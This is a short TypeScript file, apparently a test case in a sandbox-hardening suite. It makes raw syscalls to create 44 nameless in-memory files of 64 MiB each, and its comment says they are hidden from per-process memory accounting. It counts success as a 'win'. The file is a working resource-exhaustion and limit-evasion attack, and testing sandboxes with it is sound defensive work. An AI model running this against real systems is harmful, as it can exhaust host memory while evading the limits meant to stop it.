// Files without a name, which lie in memory and in no folder: no process maps them, so none is seen to hold them.
import { winIf } from '../../parts/deed.ts';
import { syscalls, text, type Call } from '../../parts/syscalls.ts';

const [memfdCreate, fallocate, nanosleep] = [319, 285, 35];
const size = 64 * 2 ** 20; // as large as one file may be
const count = 44; // 2.75 GiB together

export const elmanSequence = winIf(() => {
  const calls = Array.from({ length: count }, (_, index): Call[] => [
    { number: memfdCreate, args: [text('unroll-attack'), 0] },
    { number: fallocate, args: [{ result: 2 * index }, 0, 0, size] },
  ]).flat();
  const second = Buffer.alloc(16);
  second.writeBigInt64LE(1n);
  return syscalls([...calls, { number: nanosleep, args: [second, 0] }], 6000).every((result) => result >= 0);
});
